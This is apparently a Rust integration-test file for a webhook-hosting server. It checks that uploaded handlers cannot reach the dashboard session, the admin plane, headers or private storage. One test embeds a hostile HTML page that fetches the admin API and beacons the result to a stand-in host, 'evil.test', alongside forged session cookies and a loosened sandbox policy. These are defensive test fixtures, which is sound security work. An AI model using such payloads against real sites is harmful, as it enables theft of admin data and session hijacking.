//! Trust boundaries, played from the attacker's side: a handler is code
//! anyone may have uploaded and a webhook URL is public, so neither may
//! reach the dashboard's session, the admin plane, the host's headers, its
//! storage or its disk beyond their limits.

use hookhost::config::ServerConfig;
use hookhost::server::{self, RunningServer};
use hookhost_tests::{TestServer, component, start_with, wait_until};
use reqwest::header::HeaderMap;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// A server with the hostile fixture uploaded.
async fn hostile_server(dir: &Path) -> TestServer {
    let srv = start_with(dir, |_| {}).await;
    srv.upload_component("hostile").await;
    srv
}

/// A webhook of the hostile fixture; returns its URL and id.
async fn hostile_hook(srv: &TestServer, payload: Value) -> (String, String) {
    let hook = srv.create_webhook("hostile", payload).await;
    (
        hook["url"].as_str().unwrap().to_string(),
        hook["id"].as_str().unwrap().to_string(),
    )
}

/// Every value of header `name`, as text.
fn all(headers: &HeaderMap, name: &str) -> Vec<String> {
    headers
        .get_all(name)
        .iter()
        .map(|v| v.to_str().unwrap().to_string())
        .collect()
}

/// The attributes of a `Set-Cookie` value after its `name=value`, trimmed.
fn cookie_attributes(set_cookie: &str) -> Vec<String> {
    set_cookie
        .split(';')
        .skip(1)
        .map(|a| a.trim().to_string())
        .collect()
}

/// The `Set-Cookie` values of a sign-in that set the session cookie.
async fn login_cookies(srv: &TestServer) -> Vec<String> {
    let resp = srv
        .http
        .post(format!("{}/ui/login", srv.url))
        .json(&json!({ "token": srv.token }))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let cookies: Vec<String> = all(resp.headers(), "set-cookie")
        .into_iter()
        .filter(|c| c.starts_with("hookhost_session="))
        .collect();
    assert!(!cookies.is_empty(), "sign-in sets the session cookie");
    cookies
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn handler_responses_are_sandboxed() {
    let dir = tempfile::tempdir().unwrap();
    let srv = hostile_server(dir.path()).await;
    // A page that would read the admin API with the dashboard's cookie and
    // send it away, served from the dashboard's own origin.
    let page = "<!doctype html><script>fetch('/v1/webhooks').then(r => r.text())\
                .then(t => navigator.sendBeacon('https://evil.test/', t))</script>";
    let (url, _) = hostile_hook(
        &srv,
        json!({
            "mode": "respond",
            "status": 200,
            "body": page,
            "headers": [
                ["content-type", "text/html; charset=utf-8"],
                ["x-content-type-options", "sniff"],
                // The guest's own policy tries to loosen the sandbox.
                ["content-security-policy", "sandbox allow-scripts allow-same-origin"],
                ["set-cookie", "hookhost_session=evil; Path=/"],
                ["set-cookie", "HOOKHOST_SESSION=x; Path=/ui"],
                ["set-cookie", "theme=dark"],
                ["upgrade", "websocket"],
                ["keep-alive", "timeout=999"],
                ["proxy-authenticate", "Basic"],
                ["te", "trailers"],
                ["trailer", "x"],
                ["x-handler-says", "hello"],
            ],
        }),
    )
    .await;
    let resp = srv.http.get(&url).send().await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let headers = resp.headers().clone();
    assert_eq!(resp.text().await.unwrap(), page);

    // The handler's own headers pass...
    assert_eq!(all(&headers, "content-type"), ["text/html; charset=utf-8"]);
    assert_eq!(all(&headers, "x-handler-says"), ["hello"]);
    // ...but the page runs sandboxed whatever policy the guest adds: some
    // policy has a bare `sandbox` directive (browsers enforce them all).
    let policies = all(&headers, "content-security-policy");
    assert!(
        policies
            .iter()
            .any(|p| p.split(';').any(|d| d.trim() == "sandbox")),
        "no bare sandbox directive in {policies:?}"
    );
    assert_eq!(all(&headers, "x-content-type-options"), ["nosniff"]);
    // No cookie named like the session, in any case; other cookies pass.
    assert_eq!(all(&headers, "set-cookie"), ["theme=dark"]);
    // Hop-by-hop headers are the host's.
    for name in [
        "upgrade",
        "keep-alive",
        "proxy-authenticate",
        "te",
        "trailer",
    ] {
        assert!(
            headers.get(name).is_none(),
            "{name} passed through: {:?}",
            all(&headers, name)
        );
    }
    srv.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_session_cookie_never_reaches_a_handler() {
    let dir = tempfile::tempdir().unwrap();
    let srv = hostile_server(dir.path()).await;

    let cookies = login_cookies(&srv).await;
    let mut paths = Vec::new();
    for c in &cookies {
        let attrs = cookie_attributes(c);
        let has = |want: &str| attrs.iter().any(|a| a.eq_ignore_ascii_case(want));
        assert!(has("HttpOnly"), "{c}");
        assert!(has("SameSite=Strict"), "{c}");
        let path = attrs
            .iter()
            .find_map(|a| a.strip_prefix("Path=").or_else(|| a.strip_prefix("path=")))
            .unwrap_or_else(|| panic!("no Path in {c}"));
        assert!(
            path == "/ui" || path == "/v1",
            "session cookie on {path}: {c}"
        );
        paths.push(path.to_string());
    }
    assert!(paths.iter().any(|p| p == "/ui"), "{cookies:?}");
    let id = cookies[0]
        .split(';')
        .next()
        .unwrap()
        .strip_prefix("hookhost_session=")
        .unwrap()
        .to_string();
    assert!(!id.is_empty());
    assert!(
        cookies
            .iter()
            .all(|c| c.starts_with(&format!("hookhost_session={id};")))
    );
    // It is a live session.
    let (status, body) = srv
        .send(
            srv.http
                .get(format!("{}/ui/session", srv.url))
                .header("cookie", format!("hookhost_session={id}")),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");

    // A handler called with the cookie (a careless client, or a browser
    // holding an old `Path=/` cookie) never sees it; other cookies pass.
    let (url, _) = hostile_hook(&srv, json!({ "mode": "headers" })).await;
    let resp = srv
        .http
        .post(&url)
        .header("cookie", format!("a=1; hookhost_session={id}; b=2"))
        .header("cookie", format!("hookhost_session={id}"))
        .header("x-probe", "visible")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let text = resp.text().await.unwrap();
    assert!(!text.contains(&id), "the guest saw the session id: {text}");
    let seen: Vec<(String, String)> = serde_json::from_str(&text).unwrap();
    let cookie_headers: Vec<&str> = seen
        .iter()
        .filter(|(k, _)| k.eq_ignore_ascii_case("cookie"))
        .map(|(_, v)| v.as_str())
        .collect();
    assert_eq!(cookie_headers, ["a=1; b=2"], "{seen:?}");
    assert!(seen.iter().any(|(k, v)| k == "x-probe" && v == "visible"));

    // The dashboard cannot be framed and loads nothing from elsewhere.
    let resp = srv
        .http
        .get(format!("{}/ui/", srv.url))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert_eq!(all(resp.headers(), "x-frame-options"), ["DENY"]);
    let csp = all(resp.headers(), "content-security-policy").join("; ");
    assert!(csp.contains("default-src 'self'"), "{csp}");
    assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
    srv.stop().await;

    // Behind https, the cookie is `Secure`.
    let dir = tempfile::tempdir().unwrap();
    let srv = start_with(dir.path(), |c| {
        c.public_url = Some("https://hooks.example.test".into());
    })
    .await;
    for c in login_cookies(&srv).await {
        assert!(
            cookie_attributes(&c)
                .iter()
                .any(|a| a.eq_ignore_ascii_case("Secure")),
            "{c}"
        );
    }
    srv.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guests_answer_only_real_final_status_codes() {
    let dir = tempfile::tempdir().unwrap();
    let srv = hostile_server(dir.path()).await;
    for status in [101u16, 100, 600] {
        let (url, id) = hostile_hook(
            &srv,
            json!({ "mode": "respond", "status": status, "body": "hijacked" }),
        )
        .await;
        let (got, body) = srv.send(srv.http.get(&url)).await;
        assert_eq!(got, StatusCode::BAD_GATEWAY, "{status}: {body}");
        assert_eq!(
            body["error"]["code"], "invalid_response",
            "{status}: {body}"
        );
        assert!(
            body["error"]["message"]
                .as_str()
                .unwrap()
                .contains(&status.to_string()),
            "{body}"
        );
        let invocation = body["error"]["invocation_id"].as_str().unwrap().to_string();
        let entry = wait_until(
            Duration::from_secs(15),
            "the invocation log entry",
            || async {
                let (_, log) = srv
                    .send(srv.admin(Method::GET, &format!("/webhooks/{id}/invocations")))
                    .await;
                log["data"].as_array()?.first().cloned()
            },
        )
        .await;
        assert_eq!(entry["id"], invocation.as_str());
        assert_eq!(entry["outcome"], "invalid_response", "{status}: {entry}");
        assert_eq!(entry["status"], 502);
    }
    for status in [599u16, 200] {
        let (url, _) = hostile_hook(
            &srv,
            json!({ "mode": "respond", "status": status, "body": "fine" }),
        )
        .await;
        let resp = srv.http.get(&url).send().await.unwrap();
        assert_eq!(resp.status().as_u16(), status);
        assert_eq!(resp.text().await.unwrap(), "fine");
    }
    srv.stop().await;
}

/// A server whose admin plane has its own listener.
struct SplitServer {
    public: String,
    admin: String,
    token: String,
    http: reqwest::Client,
    running: RunningServer,
}

impl SplitServer {
    async fn start(dir: &Path) -> Self {
        hookhost::delivery::http::install_tls();
        let mut config = ServerConfig::new(dir);
        config.listen = "127.0.0.1:0".parse().unwrap();
        config.admin_listen = Some("127.0.0.1:0".parse().unwrap());
        let running = server::start(config).await.expect("server starts");
        let admin_addr = running.admin_addr.expect("an admin listener");
        assert_ne!(admin_addr, running.addr);
        Self {
            public: format!("http://{}", running.addr),
            admin: format!("http://{admin_addr}"),
            token: running.admin_token.clone(),
            http: reqwest::Client::new(),
            running,
        }
    }

    /// The status of `GET base+path` with the admin token.
    async fn status(&self, base: &str, path: &str) -> StatusCode {
        self.http
            .get(format!("{base}{path}"))
            .bearer_auth(&self.token)
            .send()
            .await
            .unwrap()
            .status()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_admin_plane_listens_apart() {
    let dir = tempfile::tempdir().unwrap();
    let srv = SplitServer::start(dir.path()).await;
    let resp = srv
        .http
        .post(format!("{}/v1/modules", srv.admin))
        .query(&[("name", "echo")])
        .bearer_auth(&srv.token)
        .body(component("echo"))
        .send()
        .await
        .unwrap();
    assert!(resp.status().is_success(), "{}", resp.status());
    let resp = srv
        .http
        .post(format!("{}/v1/webhooks", srv.admin))
        .bearer_auth(&srv.token)
        .json(&json!({ "module": "echo", "payload": null }))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::CREATED);
    let hook: Value = resp.json().await.unwrap();
    let id = hook["id"].as_str().unwrap();
    let hook_path = format!("/hooks/{id}");
    // Webhook URLs point at the public listener.
    assert_eq!(hook["url"], format!("{}{hook_path}", srv.public));

    // The public listener: webhooks and health, nothing of the admin plane,
    // even with the token.
    let resp = srv
        .http
        .post(format!("{}{hook_path}", srv.public))
        .body("hi")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert_eq!(resp.json::<Value>().await.unwrap()["body"], "hi");
    assert_eq!(srv.status(&srv.public, "/healthz").await, StatusCode::OK);
    for path in ["/v1/webhooks", "/v1/modules", "/ui/", "/ui", "/metrics"] {
        assert_eq!(
            srv.status(&srv.public, path).await,
            StatusCode::NOT_FOUND,
            "public {path}"
        );
    }
    let resp = srv
        .http
        .post(format!("{}/ui/login", srv.public))
        .json(&json!({ "token": srv.token }))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::NOT_FOUND, "public sign-in");
    assert!(resp.headers().get("set-cookie").is_none());

    // The admin listener: everything but webhook URLs.
    for path in ["/v1/webhooks", "/ui/", "/metrics"] {
        assert_eq!(
            srv.status(&srv.admin, path).await,
            StatusCode::OK,
            "admin {path}"
        );
    }
    let resp = srv
        .http
        .post(format!("{}{hook_path}", srv.admin))
        .body("hi")
        .send()
        .await
        .unwrap();
    assert_eq!(
        resp.status(),
        StatusCode::NOT_FOUND,
        "webhook on the admin listener"
    );
    srv.running.shutdown().await.expect("clean shutdown");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guest_records_are_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let srv = hostile_server(dir.path()).await;
    let events = || async {
        let (status, body) = srv.send(srv.admin(Method::GET, "/events")).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        body["data"].as_array().unwrap().clone()
    };
    let emissions = || async {
        let (status, body) = srv.send(srv.admin(Method::GET, "/emissions")).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        body["data"].as_array().unwrap().clone()
    };

    // Types the host refuses: a 1 MB one, and ones with a space or `*`
    // (which would read as a pattern in subscriptions). The handler gets
    // an error for each and nothing is stored.
    let bad_types = [("x", 1_000_000u64), ("a b", 1), ("user.*", 1), ("", 1)];
    for emit in [false, true] {
        for (kind, repeat) in bad_types {
            let (url, _) = hostile_hook(
                &srv,
                json!({"mode": "record", "type": kind, "repeat": repeat, "count": 1,
                       "emit": emit, "data": {"n": 1}}),
            )
            .await;
            let (status, body) = srv.send(srv.http.post(&url)).await;
            assert_eq!(
                status,
                StatusCode::OK,
                "{kind:?}x{repeat} emit={emit}: {body}"
            );
            let errors = body["errors"].as_array().unwrap();
            assert_eq!(errors.len(), 1, "{kind:?}x{repeat} emit={emit}: {body}");
            assert!(
                errors[0].as_str().unwrap().len() < 1000,
                "the error does not echo the type back: {}",
                &errors[0].as_str().unwrap()[..200]
            );
        }
    }
    assert_eq!(events().await, Vec::<Value>::new());
    assert_eq!(emissions().await, Vec::<Value>::new());

    // Many records, each under the per-record limit, together over the
    // per-invocation total (1 MiB by default): the invocation fails and
    // commits nothing.
    let chunk = "y".repeat(30_000);
    for emit in [false, true] {
        let (url, _) = hostile_hook(
            &srv,
            json!({"mode": "record", "type": "bulk.data", "count": 50, "emit": emit,
                   "data": chunk}),
        )
        .await;
        let (status, body) = srv.send(srv.http.post(&url)).await;
        assert_eq!(
            status,
            StatusCode::INTERNAL_SERVER_ERROR,
            "emit={emit}: {body}"
        );
        assert_eq!(body["error"]["code"], "record_limit", "emit={emit}: {body}");
    }
    assert_eq!(events().await, Vec::<Value>::new());
    assert_eq!(emissions().await, Vec::<Value>::new());

    // A type of the longest allowed length, and a few records of that size,
    // are fine.
    let longest = "t".repeat(256);
    let (url, _) = hostile_hook(
        &srv,
        json!({"mode": "record", "type": "t", "repeat": 256, "count": 3, "data": chunk}),
    )
    .await;
    let (status, body) = srv.send(srv.http.post(&url)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["errors"], json!([]));
    let stored = events().await;
    assert_eq!(stored.len(), 3);
    assert!(stored.iter().all(|e| e["type"] == longest.as_str()));
    srv.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn components_over_the_sandbox_caps_are_refused_at_upload() {
    // The sandbox's caps (host/src/runtime/sandbox.rs): 4 memories, 16
    // tables, 16 core instances per invocation.
    let memories = "(memory 1) ".repeat(5);
    let tables = "(table 1 funcref) ".repeat(17);
    let instances = "(core instance (instantiate $m)) ".repeat(17);
    let cases = [
        (
            format!("(component (core module {memories}))"),
            "5 memories",
        ),
        (
            // Each module under the cap, together over it.
            "(component (core module (memory 1) (memory 1) (memory 1)) \
             (core module (memory 1) (memory 1) (memory 1)))"
                .to_string(),
            "6 memories",
        ),
        (format!("(component (core module {tables}))"), "17 tables"),
        (
            format!("(component (core module $m) {instances})"),
            "17 core instances",
        ),
    ];
    let dir = tempfile::tempdir().unwrap();
    let srv = start_with(dir.path(), |_| {}).await;
    for (i, (text, why)) in cases.iter().enumerate() {
        let bytes = wat::parse_str(text).unwrap_or_else(|e| panic!("{text}: {e}"));
        let (status, body) = srv.upload(&format!("greedy-{i}"), bytes).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{why}: {body}");
        assert_eq!(
            body["error"]["code"], "component_too_large",
            "{why}: {body}"
        );
        let message = body["error"]["message"].as_str().unwrap();
        assert!(message.contains(why), "{why}: {message}");
    }
    let (_, modules) = srv.send(srv.admin(Method::GET, "/modules")).await;
    assert_eq!(modules["data"], json!([]), "nothing refused was stored");
    // A real handler is well within the caps.
    srv.upload_component("echo").await;
    srv.stop().await;
}

/// The files in `dir` whose name ends with `suffix` (none if it is absent).
fn files_in(dir: &Path, suffix: &str) -> Vec<PathBuf> {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return Vec::new();
    };
    entries
        .map(|e| e.unwrap().path())
        .filter(|p| p.is_file() && p.to_string_lossy().ends_with(suffix))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deleting_a_module_removes_its_code_and_compiled_artifact() {
    let dir = tempfile::tempdir().unwrap();
    let srv = start_with(dir.path(), |_| {}).await;
    let compiled = dir.path().join("compiled");
    // One code, two modules.
    let mut sha = String::new();
    for name in ["echo-a", "echo-b"] {
        let (status, body) = srv.upload(name, component("echo")).await;
        assert!(status.is_success(), "{name}: {status} {body}");
        sha = body["sha256"].as_str().unwrap().to_string();
    }
    assert_eq!(files_in(&compiled, ".cwasm").len(), 1);
    assert!(srv.holds_code(dir.path(), &sha).await);

    // Still used by the other module: kept.
    let (status, body) = srv.send(srv.admin(Method::DELETE, "/modules/echo-a")).await;
    assert_eq!(status, StatusCode::NO_CONTENT, "{body}");
    assert_eq!(files_in(&compiled, ".cwasm").len(), 1);
    assert!(srv.holds_code(dir.path(), &sha).await);

    // The last user gone: code and artifact gone.
    let (status, body) = srv.send(srv.admin(Method::DELETE, "/modules/echo-b")).await;
    assert_eq!(status, StatusCode::NO_CONTENT, "{body}");
    assert_eq!(files_in(&compiled, ".cwasm"), Vec::<PathBuf>::new());
    assert!(!srv.holds_code(dir.path(), &sha).await);
    if !srv.on_postgres() {
        assert_eq!(
            files_in(&dir.path().join("modules"), ""),
            Vec::<PathBuf>::new()
        );
    }
    srv.stop().await;
}

/// Every path under `dir` (itself included) whose mode is not 0700 for a
/// directory or 0600 for a file, with its mode.
fn loose_permissions(dir: &Path) -> Vec<String> {
    let mut loose = Vec::new();
    let meta = std::fs::symlink_metadata(dir).unwrap();
    let mode = meta.permissions().mode() & 0o777;
    if mode != 0o700 {
        loose.push(format!("{} {mode:o}", dir.display()));
    }
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        let meta = std::fs::symlink_metadata(&path).unwrap();
        if meta.is_dir() {
            loose.extend(loose_permissions(&path));
        } else {
            let mode = meta.permissions().mode() & 0o777;
            if mode != 0o600 {
                loose.push(format!("{} {mode:o}", path.display()));
            }
        }
    }
    loose
}

/// Makes everything under `dir` world-readable, as an earlier version left it.
fn loosen(dir: &Path) {
    let mode = if dir.is_dir() { 0o755 } else { 0o644 };
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(mode)).unwrap();
    if dir.is_dir() {
        for entry in std::fs::read_dir(dir).unwrap() {
            loosen(&entry.unwrap().path());
        }
    }
}

/// Uploads echo, calls it once and sends a large event (which sled keeps
/// in a file of its own), so every kind of file exists.
async fn use_it(srv: &TestServer) {
    let (status, body) = srv
        .send(
            srv.admin(Method::POST, "/events")
                .json(&json!({"type": "big.event", "data": {"blob": "z".repeat(200_000)}})),
        )
        .await;
    assert!(status.is_success(), "{status}: {body}");
    srv.upload_component("echo").await;
    let hook = srv
        .create_webhook("echo", json!({"secret": "s3cret"}))
        .await;
    let (status, _) = srv
        .send(srv.http.post(hook["url"].as_str().unwrap()).body("x"))
        .await;
    assert_eq!(status, StatusCode::OK);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_data_directory_is_private() {
    let parent = tempfile::tempdir().unwrap();
    let data = parent.path().join("data");

    // A fresh install.
    let srv = start_with(&data, |_| {}).await;
    use_it(&srv).await;
    assert!(data.join("admin-token").is_file());
    // Module files on sled (PostgreSQL keeps them in the database).
    assert_eq!(
        files_in(&data.join("modules"), "").is_empty(),
        srv.on_postgres()
    );
    assert!(!files_in(&data.join("compiled"), ".cwasm").is_empty());
    assert_eq!(loose_permissions(&data), Vec::<String>::new(), "fresh");
    srv.stop().await;

    // An install an earlier version left readable to everyone is private
    // again after the start.
    loosen(&data);
    assert!(!loose_permissions(&data).is_empty());
    let srv = start_with(&data, |_| {}).await;
    assert_eq!(loose_permissions(&data), Vec::<String>::new(), "restarted");
    srv.stop().await;
}
